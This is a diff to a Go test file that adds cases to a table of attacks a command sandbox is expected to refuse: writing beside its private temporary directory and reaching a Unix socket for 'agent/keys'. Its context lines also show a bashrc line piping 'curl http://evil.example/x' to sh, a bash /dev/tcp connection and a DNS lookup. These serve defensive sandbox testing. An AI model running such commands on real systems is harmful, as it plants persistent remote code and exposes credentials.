@@ -137,6 +137,22 @@ func hostileAttacks() []hostileAttack {
 		{name: "write into tmp", refused: true,
 			command: func(w *hostileWorld) string { return "echo pwned > " + w.tmpCanary },
 			effect:  created(func(w *hostileWorld) string { return w.tmpCanary })},
+		{name: "write beside its own tmpdir", refused: true,
+			offSkip: "with the sandbox off a command has no private temporary directory to step out of; writing into /tmp is the contrast",
+			setup: func(t *testing.T, w *hostileWorld) {
+				t.Cleanup(func() {
+					for _, p := range besideTmp(w) {
+						os.Remove(p)
+					}
+				})
+			},
+			command: func(w *hostileWorld) string { return `echo planted > "$TMPDIR/../planted-` + w.nonce + `"` },
+			effect: func(_ *testing.T, w *hostileWorld, _ hostileRun) string {
+				if p := besideTmp(w); len(p) > 0 {
+					return fmt.Sprintf("created %v, beside the temporary directories of the process's other commands", p)
+				}
+				return ""
+			}},
 		{name: "append to bashrc", refused: true,
 			command: func(*hostileWorld) string { return "echo 'curl http://evil.example/x | sh' >> ~/.bashrc" },
 			effect: func(_ *testing.T, w *hostileWorld, _ hostileRun) string {
@@ -191,6 +207,20 @@ func hostileAttacks() []hostileAttack {
 		hostileAttack{name: "tcp connect with bash", refused: true,
 			command: func(w *hostileWorld) string { return "echo hello > /dev/tcp/127.0.0.1/" + w.tcp.port() },
 			effect:  connected},
+		hostileAttack{name: "unix socket", refused: true,
+			setup: func(t *testing.T, w *hostileWorld) {
+				// Outside the home, where ssh-agent and Docker put theirs.
+				w.unix = newUnixRecorder(t, filepath.Join(t.TempDir(), "agent.sock"))
+			},
+			command: func(w *hostileWorld) string {
+				return "curl -sS --max-time 10 --unix-socket " + w.unix.srv.Listener.Addr().String() + " http://agent/keys"
+			},
+			effect: func(t *testing.T, w *hostileWorld, _ hostileRun) string {
+				if n := w.unix.connections(t); n > 0 {
+					return fmt.Sprintf("%d connections reached the Unix socket", n)
+				}
+				return ""
+			}},
 		hostileAttack{name: "dns lookup", refused: true,
 			offSkip: "with the sandbox off getent asks this machine's resolver, which is not on loopback; the UDP cases show what the sandbox stops",
 			command: func(*hostileWorld) string { return "getent hosts secret.example" },
@@ -268,6 +298,13 @@ func created(path func(w *hostileWorld) string) func(*testing.T, *hostileWorld, 
 		}
 		return ""
 	}
+}
+
+// besideTmp finds what the write-beside attack made in the directory the
+// sandbox makes commands' temporary directories in.
+func besideTmp(w *hostileWorld) []string {
+	found, _ := filepath.Glob(filepath.Join(os.TempDir(), "macroa-sandbox-*", "planted-"+w.nonce))
+	return found
 }
 
 // read is the effect of an attack that reads what: its canary came back,
